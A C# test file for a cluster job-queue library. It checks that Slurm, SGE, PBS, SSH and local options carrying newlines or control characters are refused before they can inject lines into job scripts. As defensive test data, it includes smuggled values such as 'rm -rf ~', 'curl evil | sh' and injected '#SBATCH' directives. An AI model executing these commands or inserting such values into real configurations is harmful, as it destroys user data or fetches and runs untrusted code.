using JobQueue.Configuration;

namespace JobQueue.Tests.JobScripts;

/// <summary>
/// A newline (or any other control character) in an option that lands in a job script or on a command line would add
/// shell lines or directives of its own: every such option refuses it at construction, naming the option and entry.
/// </summary>
public sealed class ControlCharacterTests
{
    private static readonly SlurmOptions Slurm = new() { Cores = 1, Memory = "1GB", WorkerCommand = TestClusters.WorkerCommand };
    private static readonly SGEOptions Sge = new() { Cores = 1, Memory = "1GB", WorkerCommand = TestClusters.WorkerCommand };
    private static readonly PBSOptions Pbs = new() { Cores = 1, Memory = "1GB", WorkerCommand = TestClusters.WorkerCommand };
    private static readonly SshOptions Ssh = new() { Host = "login1", DeployWorkerHost = true };

    public static TheoryData<string, Func<object>> Refused => new()
    {
        { "SlurmOptions.Queue", () => TestClusters.Slurm(Slurm with { Queue = "debug\n#SBATCH --exclusive" }) },
        { "SlurmOptions.Account", () => TestClusters.Slurm(Slurm with { Account = "chem\r" }) },
        { "SlurmOptions.Walltime", () => TestClusters.Slurm(Slurm with { Walltime = "01:00:00\necho x" }) },
        { "SlurmOptions.Memory", () => TestClusters.Slurm(Slurm with { Memory = "1GB\0" }) },
        { "SlurmOptions.LogDirectory", () => TestClusters.Slurm(Slurm with { LogDirectory = "/logs\nrm -rf ~" }) },
        { "SlurmOptions.LocalDirectory", () => TestClusters.Slurm(Slurm with { LocalDirectory = "/scratch\t" }) },
        { "SlurmOptions.SharedTempDirectory", () => TestClusters.Slurm(Slurm with { SharedTempDirectory = "/shared\n" }) },
        { "SlurmOptions.Shebang", () => TestClusters.Slurm(Slurm with { Shebang = "#!/bin/bash\ntouch /tmp/x" }) },
        { "SlurmOptions.JobExtraDirectives[1]", () => TestClusters.Slurm(Slurm with { JobExtraDirectives = ["--gres=gpu:1", "--exclusive\necho INJECTED"] }) },
        { "SlurmOptions.JobDirectivesSkip[0]", () => TestClusters.Slurm(Slurm with { JobDirectivesSkip = ["--mem\n"] }) },
        { "SlurmOptions.JobScriptPrologue[0]", () => TestClusters.Slurm(Slurm with { JobScriptPrologue = ["module load dotnet\nrm -rf ~"] }) },
        { "SlurmOptions.EnvExtra[0]", () => TestClusters.Slurm(Slurm with { EnvExtra = ["export A=1\u001b[2K"] }) },
        { "SlurmOptions.JobScriptEpilogue[0]", () => TestClusters.Slurm(Slurm with { JobScriptEpilogue = ["echo done\r\n"] }) },
        { "SlurmOptions.WorkerExtraArgs[0]", () => TestClusters.Slurm(Slurm with { WorkerExtraArgs = ["--log-level\nDebug"] }) },
        { "SlurmOptions.Interface", () => TestClusters.Slurm(Slurm with { Interface = "ib0\n" }) },
        { "SlurmOptions.ContactAddress", () => TestClusters.Slurm(Slurm with { ContactAddress = "login1\n" }) },
        { "SlurmOptions.WorkerCommand", () => TestClusters.Slurm(Slurm with { WorkerCommand = "dotnet WorkerHost.dll\ncurl evil | sh" }) },
        { "SlurmOptions.JobName", () => TestClusters.Slurm(Slurm with { JobName = "chem\u007f" }) },
        { "SlurmOptions.CommandDirectory", () => TestClusters.Slurm(Slurm with { CommandDirectory = "/opt/slurm/bin\n" }) },
        { "SlurmOptions.JobMem", () => TestClusters.Slurm(Slurm with { JobMem = "30G\n" }) },
        { "SGEOptions.Project", () => TestClusters.Sge(Sge with { Project = "p1\n#$ -l h_vmem=1T" }) },
        { "SGEOptions.ResourceSpec", () => TestClusters.Sge(Sge with { ResourceSpec = "h_vmem=1G\n" }) },
        { "SGEOptions.ParallelEnvironment", () => TestClusters.Sge(Sge with { ParallelEnvironment = "smp\n" }) },
        { "SGEOptions.Shell", () => TestClusters.Sge(Sge with { Shell = "/bin/bash\n" }) },
        { "SGEOptions.MemoryResource", () => TestClusters.Sge(Sge with { MemoryResource = "h_vmem\n" }) },
        { "PBSOptions.ResourceSpec", () => TestClusters.Pbs(Pbs with { ResourceSpec = "select=1\n" }) },
        { "SlurmOptions.Ssh.Host", () => TestClusters.Slurm(Slurm with { Ssh = Ssh with { Host = "login1\n" } }) },
        { "SlurmOptions.Ssh.User", () => TestClusters.Slurm(Slurm with { Ssh = Ssh with { User = "alice\0" } }) },
        { "SlurmOptions.Ssh.IdentityFile", () => TestClusters.Slurm(Slurm with { Ssh = Ssh with { IdentityFile = "~/.ssh/id\n" } }) },
        { "SlurmOptions.Ssh.ExtraArgs[1]", () => TestClusters.Slurm(Slurm with { Ssh = Ssh with { ExtraArgs = ["-o", "ProxyCommand=x\ny"] } }) },
        { "SlurmOptions.Ssh.Dotnet", () => TestClusters.Slurm(Slurm with { Ssh = Ssh with { Dotnet = "dotnet\n" } }) },
        { "LocalOptions.LocalDirectory", () => new LocalCluster(new LocalOptions { LocalDirectory = "/tmp\n" }) },
        { "LocalOptions.ContactAddress", () => new LocalCluster(new LocalOptions { ContactAddress = "127.0.0.1\n" }) },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void An_option_with_a_control_character_is_refused_naming_the_option_and_entry(string option, Func<object> construct)
    {
        var error = Assert.ThrowsAny<ArgumentException>(construct);

        Assert.StartsWith($"{option} = \"", error.Message);
        Assert.Contains("must be single lines without control characters", error.Message);
        Assert.Equal(option.Split('.')[^1].Split('[')[0], error.ParamName);
    }

    [Fact]
    public void A_directive_with_a_newline_is_refused_instead_of_becoming_a_shell_line()
    {
        var error = Assert.Throws<ArgumentException>(() => TestClusters.Slurm(Slurm with { JobExtraDirectives = ["--exclusive\necho INJECTED"] }));

        Assert.StartsWith("SlurmOptions.JobExtraDirectives[0] = \"--exclusive\\necho INJECTED\" contains a line feed (\\n) at position 11;", error.Message);
    }

    [Fact]
    public void The_same_keys_in_the_configuration_file_are_refused()
    {
        var directory = Directory.CreateTempSubdirectory("jobqueue-config-").FullName;
        var path = Path.Combine(directory, "jobqueue.yaml");
        File.WriteAllText(path, "jobqueue:\n  slurm:\n    cores: 1\n    memory: 1GB\n    queue: \"debug\\n#SBATCH --exclusive\"\n");
        var config = JobQueueConfig.Load(path, new Dictionary<string, string>());

        var error = Assert.Throws<ArgumentException>(() => TestClusters.Slurm(new SlurmOptions { WorkerCommand = TestClusters.WorkerCommand }, config));

        Assert.StartsWith("SlurmOptions.Queue = \"debug\\n#SBATCH --exclusive\" contains a line feed", error.Message);
        Directory.Delete(directory, recursive: true);
    }

    [Fact]
    public void A_log_directory_with_a_space_is_refused_with_a_clear_message()
    {
        var error = Assert.Throws<ArgumentException>(() => TestClusters.Slurm(Slurm with { LogDirectory = "/home/me/my logs" }));

        Assert.Equal("LogDirectory", error.ParamName);
        Assert.StartsWith("SlurmOptions.LogDirectory = \"/home/me/my logs\" contains a space; batch systems split their -o/-e directives at spaces", error.Message);
    }
}
